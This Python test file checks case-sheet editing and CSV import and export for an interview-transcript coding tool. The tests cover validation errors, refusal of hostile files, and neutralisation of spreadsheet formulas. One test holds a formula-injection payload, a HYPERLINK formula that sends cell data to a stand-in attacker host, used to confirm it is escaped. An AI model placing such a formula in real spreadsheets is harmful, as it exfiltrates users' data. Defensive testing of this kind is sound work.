"""Cases in the core: each participant's details edited, and the case sheet (CSV) written and read back.
Every CSV is hostile: a bad one is refused in one line, with nothing of it stored."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jswcoder.errors import InvalidInput, NotFound
from jswcoder.plain_text import looks_like_formula
from jswcoder.project import Project
from jswcoder.services.cases import MAX_CSV_BYTES, for_sheet, from_sheet
from jswcoder.services.transcripts import ParticipantFields
from tests.conftest import write_txt
from tests.indirect_decided import decide_all

TEXT = "Interviewer: How is the office?\nP{n}: We share it with the police now ({n}).\n"


@pytest.fixture
def study(project: Project, tmp_path: Path) -> Project:
    """Three interviews: two with details, one imported bare (as a file without a .meta.json is)."""
    inbox = tmp_path / "inbox"
    project.transcripts.import_file(
        write_txt(inbox, "A1_jsw_group_discussion.txt", TEXT.format(n=1)),
        ParticipantFields("Justice social workers", 1, format="group", mode="video", council_area="Highland"),
    )
    project.transcripts.import_file(
        write_txt(inbox, "A2_senior_manager_depth.txt", TEXT.format(n=2)),
        ParticipantFields("Senior managers / team leaders", 2, attributes={"role": "Team leader"}),
    )
    project.transcripts.import_file(write_txt(inbox, "A3_police_paired.txt", TEXT.format(n=3)))
    return project


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _write(path: Path, rows: list[list[str]]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _state(project: Project) -> list[tuple[object, ...]]:
    return [
        (c.uuid, c.participant.participant_group, c.participant.interview_number, c.participant.format,
         c.participant.mode, c.participant.council_area, sorted(c.participant.attributes.items()))
        for c in project.cases.all()
    ]  # fmt: skip


def test_cases_list_one_row_per_participant_with_its_transcripts(study: Project) -> None:
    cases = study.cases.all()
    assert [(c.label, c.transcripts) for c in cases] == [
        ("Justice social workers interview 1", ("A1_jsw_group_discussion",)),
        ("Senior managers / team leaders interview 2", ("A2_senior_manager_depth",)),
        ("A3_police_paired", ("A3_police_paired",)),
    ]
    assert study.cases.attribute_names() == ["role"]
    assert study.cases.find("2").transcripts == ("A2_senior_manager_depth",)
    assert study.cases.find("A3_police_paired").participant.interview_number is None
    with pytest.raises(NotFound):
        study.cases.find("A9")


def test_a_bare_transcript_gets_its_details(study: Project) -> None:
    case = study.cases.find("A3_police_paired")
    before = study.cases.set(
        case.uuid,
        {"participant_group": "Wider professional partner", "interview_number": "3", "format": "Paired",
         "mode": "in person", "role": "Police sergeant"},
    )  # fmt: skip
    assert before == case.participant
    transcript = study.transcripts.find("A3_police_paired")
    participant = study.transcripts.participant(transcript)
    assert participant is not None
    assert participant.attribution == "Wider professional partner interview 3"
    assert (participant.format, participant.mode) == ("paired", "in person")
    assert participant.attributes == {"role": "Police sergeant"}
    study.cases.set(case.uuid, {"role": "", "council_area": "  "})  # blank clears
    cleared = study.cases.find("3").participant
    assert cleared.attributes == {} and cleared.council_area is None
    study.cases.put_back([before])
    assert study.cases.find("A3_police_paired").participant == case.participant


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"interview_number": "2"}, "interview 2 is already"),
        ({"interview_number": "two"}, "whole number"),
        ({"interview_number": "0"}, "from 1 to"),
        ({"format": "focus group"}, "format must be one of"),
        ({"mode": "carrier pigeon"}, "mode must be one of"),
        ({"participant_group": "x" * 201}, "200 characters"),
        ({"": "value"}, "attribute needs a name"),
        ({"Group": "value"}, "is one of the case's own details"),
    ],
)
def test_a_bad_detail_is_refused_and_nothing_changes(
    study: Project, change: dict[str, str], reason: str
) -> None:
    before = _state(study)
    with pytest.raises(InvalidInput, match=reason):
        study.cases.set(study.cases.find("1").uuid, {"council_area": "Moray", **change})
    assert _state(study) == before


def test_the_case_sheet_round_trips_and_edits_come_back(study: Project, tmp_path: Path) -> None:
    sheet = tmp_path / "cases.csv"
    decide_all(study)  # three cases: each detail fits fewer than k (the indirect check), left as is
    assert study.cases.export_csv(sheet) == 3
    assert sheet.stat().st_mode & 0o077 == 0  # readable by the user only
    rows = _rows(sheet)
    assert list(rows[0]) == [
        "case_id", "transcripts", "participant_group", "interview_number", "format", "mode",
        "council_area", "role",
    ]  # fmt: skip
    assert rows[1]["role"] == "Team leader" and rows[2]["interview_number"] == ""
    before = _state(study)
    result = study.cases.import_csv(sheet)
    assert (result.changed, result.unchanged) == (0, 3) and _state(study) == before

    rows[2].update(participant_group="Wider professional partner", interview_number="3", role="Sergeant")
    rows[0].update(interview_number="2")  # a swap of numbers, all in one sheet
    rows[1].update(interview_number="1")
    table = [list(rows[0])] + [list(r.values()) for r in rows]
    result = study.cases.import_csv(_write(tmp_path / "edited.csv", table))
    assert (result.changed, result.unchanged) == (3, 0)
    assert study.cases.find("A1_jsw_group_discussion").participant.interview_number == 2
    assert study.cases.find("A2_senior_manager_depth").participant.interview_number == 1
    third = study.cases.find("3").participant
    assert third.attribution == "Wider professional partner interview 3" and third.attributes == {
        "role": "Sergeant"
    }
    study.cases.put_back(result.before)
    assert _state(study) == before


def test_a_sheet_without_ids_finds_cases_by_transcript_and_leaves_other_columns(
    study: Project, tmp_path: Path
) -> None:
    sheet = _write(
        tmp_path / "recruitment.csv",
        [
            ["Transcripts", "Council area"],
            ["A3_police_paired", "Argyll and Bute"],
            ["A1_jsw_group_discussion", ""],
        ],
    )
    result = study.cases.import_csv(sheet)
    assert result.changed == 2
    assert study.cases.find("A3_police_paired").participant.council_area == "Argyll and Bute"
    first = study.cases.find("1").participant
    assert first.council_area is None and first.format == "group"  # a column left out is left alone


def _refused(study: Project, path: Path, reason: str) -> None:
    before = _state(study)
    with pytest.raises(InvalidInput) as error:
        study.cases.import_csv(path)
    message = str(error.value)
    assert reason in message, message
    assert "\n" not in message and "nothing was imported" in message
    assert _state(study) == before


def test_hostile_sheets_are_refused_in_one_line_with_nothing_stored(study: Project, tmp_path: Path) -> None:
    ids = {c.transcripts[0]: c.uuid for c in study.cases.all()}
    a1, a2, a3 = ids["A1_jsw_group_discussion"], ids["A2_senior_manager_depth"], ids["A3_police_paired"]
    header = ["case_id", "interview_number", "council_area"]
    # The first row is good each time: it must not be stored when a later one is refused.
    _refused(study, _write(tmp_path / "w.csv", [["text", "replacement", "category"], ["a", "b", "PERSON"]]),
             "needs a case_id or transcripts column")  # fmt: skip
    _refused(study, _write(tmp_path / "n.csv", [header, [a1, "1", "Moray"], [a3, "three", ""]]),
             "line 3: the interview number must be a whole number")  # fmt: skip
    _refused(study, _write(tmp_path / "d.csv", [header, [a1, "7", "Moray"], [a3, "7", ""]]),
             "line 3: interview 7 is also on line 2")  # fmt: skip
    _refused(study, _write(tmp_path / "t.csv", [header, [a1, "1", "Moray"], [a3, "2", ""]]),
             "line 3: interview 2 is already A2_senior_manager_depth's")  # fmt: skip
    _refused(study, _write(tmp_path / "s.csv", [header, [a1, "1", "Moray"], [a1, "1", ""]]),
             "line 3: the same case as line 2")  # fmt: skip
    _refused(study, _write(tmp_path / "u.csv", [header, [a1, "1", "Moray"], ["no-such-id", "4", ""]]),
             "line 3: there is no case with that case_id")  # fmt: skip
    _refused(study, _write(tmp_path / "x.csv", [header, [a1, "1", "Moray"], [a2, "2", "", "extra"]]),
             "line 3 has more cells than the header has columns")  # fmt: skip
    _refused(study, _write(tmp_path / "h.csv", [[*header, "role", "Role"], [a1, "1", "Moray", "a", "b"]]),
             "the column role appears twice")  # fmt: skip
    big = tmp_path / "big.csv"
    big.write_bytes(b"case_id,role\n" + b"x,y\n" * (MAX_CSV_BYTES // 4 + 1))
    _refused(study, big, "larger than 5 MiB")
    latin = tmp_path / "latin.csv"
    latin.write_bytes(b"case_id,council_area\n" + f"{a1},Perth & Kinross \xe9\n".encode("latin-1"))
    _refused(study, latin, "not UTF-8 text")
    _refused(study, tmp_path / "missing.csv", "was not found")


def test_formula_cells_are_neutralised_on_export_and_read_back_as_typed(
    study: Project, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    case = study.cases.find("1")
    study.cases.set(case.uuid, {"role": hostile, "council_area": "+44 1631", "@team": "-1"})
    sheet = tmp_path / "cases.csv"
    decide_all(study)
    study.cases.export_csv(sheet)
    text = sheet.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'=HYPERLINK(" in text and "'+44 1631" in text and "'@team" in text
    before = _state(study)
    assert study.cases.import_csv(sheet).changed == 0  # read back, they are what was typed
    assert _state(study) == before
    assert study.cases.find("1").participant.attributes == {"@team": "-1", "role": hostile}


@given(st.text(max_size=40))
def test_a_cell_written_to_the_sheet_is_never_a_formula_and_reads_back_as_it_was(cell: str) -> None:
    written = for_sheet(cell)
    assert not looks_like_formula(written)
    assert from_sheet(written) == cell
